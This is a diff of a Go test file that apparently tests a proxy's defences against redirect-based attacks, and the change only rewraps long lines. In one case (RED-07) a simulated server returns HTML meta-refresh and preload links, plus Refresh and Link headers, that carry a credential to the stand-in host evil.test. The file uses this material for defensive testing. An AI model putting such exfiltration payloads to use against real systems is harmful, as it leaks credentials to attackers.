@@ -10,23 +10,27 @@ func red() category {
 	return category{name: "RED", unrun: map[string]string{
 		"RED-05": "there is no endpoint yet that runs an operation by name",
 	}, cases: []attack{
-		{id: "RED-01", does: "a redirect is the client's to follow, and its target is judged like any other", run: func(c *trial) {
-			for _, status := range []int{301, 302, 303, 307, 308} {
-				c.each(fmt.Sprint(status), func(c *trial) {
-					c.origin("api.good.test").plays(func(v *visit) { v.reply(status, "", "Location", "https://evil.test/?x=1") })
-					a := c.get("api.good.test", "/v1/items")
-					c.is("the redirect", a, status)
-					if a.header.Get("Location") != "https://evil.test/?x=1" {
-						c.failf("Location is %q", a.header.Get("Location"))
-					}
-					c.refused("its target", c.get("evil.test", "/?x=1"), hostNotAllowed)
-				})
-			}
-		}},
+		{id: "RED-01", does: "a redirect is the client's to follow, and its target is judged like any other",
+			run: func(c *trial) {
+				for _, status := range []int{301, 302, 303, 307, 308} {
+					c.each(fmt.Sprint(status), func(c *trial) {
+						c.origin("api.good.test").plays(func(v *visit) { v.reply(status, "", "Location", "https://evil.test/?x=1") })
+						a := c.get("api.good.test", "/v1/items")
+						c.is("the redirect", a, status)
+						if a.header.Get("Location") != "https://evil.test/?x=1" {
+							c.failf("Location is %q", a.header.Get("Location"))
+						}
+						c.refused("its target", c.get("evil.test", "/?x=1"), hostNotAllowed)
+					})
+				}
+			}},
 		{id: "RED-02", does: "a redirect that keeps the method takes no credential with it", run: func(c *trial) {
 			for _, status := range []int{307, 308} {
 				c.each(fmt.Sprint(status), func(c *trial) {
-					c.origin("api.good.test").plays(func(v *visit) { v.reply(status, "", "Location", "https://key.good.test/v1/items") })
+					c.origin("api.good.test").plays(func(v *visit) {
+						v.reply(status, "", "Location",
+							"https://key.good.test/v1/items")
+					})
 					c.is("the redirect", c.post("api.good.test", "/v1/items", "x"), status)
 					if len(c.hits("key.good.test")) != 0 {
 						c.failf("it was followed")
@@ -40,12 +44,14 @@ func red() category {
 			c.origin("api.good.test").plays(func(v *visit) { v.reply(302, "", "Location", "http://api.good.test/v1/items") })
 			c.is("the redirect", c.get("api.good.test", "/v1/items"), 302)
 			c.refused("its target", c.absolute("http://api.good.test/v1/items", "api.good.test"), hostNotAllowed)
-			c.refused("its target in a tunnel", c.tunClear("api.good.test:80", head("GET", "api.good.test:80", "/v1/items")), hostNotAllowed)
+			c.refused("its target in a tunnel", c.tunClear("api.good.test:80", head("GET", "api.good.test:80", "/v1/items")),
+				hostNotAllowed)
 		}},
 		{id: "RED-07", does: "links that carry the credential are wiped, and nothing is fetched ahead", run: func(c *trial) {
 			c.origin("api.good.test").plays(func(v *visit) {
 				s := v.credential()
-				v.reply(200, `<meta http-equiv="refresh" content="0;url=https://evil.test/?`+s+`"><link rel=preload href="https://evil.test/`+s+`">`, "Content-Type", "text/html",
+				v.reply(200, `<meta http-equiv="refresh" content="0;url=https://evil.test/?`+s+
+					`"><link rel=preload href="https://evil.test/`+s+`">`, "Content-Type", "text/html",
 					"Refresh", "0;url=https://evil.test/?"+s, "Link", "<https://evil.test/"+s+">; rel=preload")
 			})
 			a := c.get("api.good.test", "/v1/items")
